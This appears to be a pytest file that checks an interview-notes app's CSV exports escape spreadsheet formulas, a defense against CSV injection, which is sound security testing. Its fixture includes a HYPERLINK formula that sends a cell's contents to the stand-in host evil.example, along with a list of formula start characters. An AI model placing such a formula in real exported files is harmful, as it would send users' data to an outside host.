"""Every CSV Earful writes opens in a spreadsheet as text: `earful quotes`, `earful board` and the pack's
quotes escape a cell that a spreadsheet would run as a formula (OWASP "CSV injection")."""

from __future__ import annotations

import csv
import io

import pytest

from app.cli import main
from app.export.pack.writer import export_pack
from app.services.packs import PackRequest, build_pack
from app.services.tagging import Tagger
from tests.export.conftest import GUIDE_SLUG, PEOPLE, Person, add_interview

FORMULAS = ('=HYPERLINK("http://evil.example/?d="&A1,"open")', "=1+1", "+1+1", "-1+1", "@SUM(A1)")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(library):
    """An interview titled with a formula, a customer named with one, quotes noted with the others."""
    person = Person(FORMULAS[0], FORMULAS[1], PEOPLE[0].company, PEOPLE[0].role, PEOPLE[0].segment, ())
    interview_id = add_interview(library, person)
    tagger = Tagger(library)
    segments = library.transcripts.segments(interview_id)
    for n, note in enumerate(FORMULAS[1:], start=1):
        segment = segments[2 * n - 1]
        tagger.add_quote(interview_id, segment.start_ms, segment.end_ms, "trigger", (), note, channel=1)
    return library, interview_id


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_no_formula(text: str) -> None:
    found = cells(text)
    assert any(cell.startswith("'=") for cell in found), "the hostile text is in the file, escaped"
    formulas = [cell for cell in found if cell.startswith(FORMULA_STARTS)]
    assert formulas == [], f"a spreadsheet would run {formulas}"


@pytest.mark.parametrize("command", ["quotes --format csv", f"board --guide {GUIDE_SLUG} --format csv"])
def test_the_cli_csv_escapes_formulas(hostile, capsys, command):
    library, _interview_id = hostile
    assert main(["--library", str(library.root), *command.split()]) == 0
    out = capsys.readouterr().out
    assert_no_formula(out)
    assert f"'{FORMULAS[0]}" in cells(out), "the title, escaped, not dropped"


def test_the_pack_csv_escapes_formulas(hostile, tmp_path):
    library, interview_id = hostile
    pack = build_pack(library, PackRequest((interview_id,)))
    [path] = export_pack(pack, tmp_path / "out", "pack", ["csv"])
    text = path.read_text(encoding="utf-8-sig")
    assert_no_formula(text)
    assert {f"'{note}" for note in FORMULAS[1:]} <= set(cells(text))
